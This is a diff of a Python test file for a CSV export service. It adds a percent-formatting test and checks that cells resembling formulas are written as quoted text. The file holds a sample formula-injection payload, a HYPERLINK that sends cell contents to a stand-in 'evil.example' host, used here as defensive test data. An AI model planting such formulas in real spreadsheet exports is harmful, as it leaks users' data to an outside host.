@@ -6,7 +6,7 @@ import io
 import pytest
 from sqlalchemy import text
 
-from geo_app.services.exports import csv_text, text_cell
+from geo_app.services.exports import csv_text, percent, text_cell
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
 
@@ -19,6 +19,10 @@ def test_formula_starts_are_written_as_text(value):
 @pytest.mark.parametrize("value", ["王小明（楼栋长）", "2024-05", "", None, 5, -3, 0.25, "a=b", "1+1"])
 def test_other_cells_pass_unchanged(value):
     assert text_cell(value) == value
+
+
+def test_percent_reads_as_a_person_writes_it():
+    assert [percent(r) for r in (0.9894, 1, 0, None)] == ["98.9%", "100.0%", "0.0%", None]
 
 
 def test_csv_text_reads_back_with_every_hostile_cell_quoted():
@@ -39,6 +43,7 @@ def test_a_person_named_like_a_formula_is_text_in_the_stats_csv(app, client):
     response = client.get("/api/v1/stats?by=assignee&format=csv")
     assert response.status_code == 200 and response.mimetype == "text/csv"
     rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
-    [row] = [r for r in rows if r["key"] == str(renamed)]
-    assert row["label"].startswith("'" + HOSTILE)
+    assert renamed
+    [row] = [r for r in rows if HOSTILE in r["名称"]]
+    assert row["名称"].startswith("'" + HOSTILE)
     assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
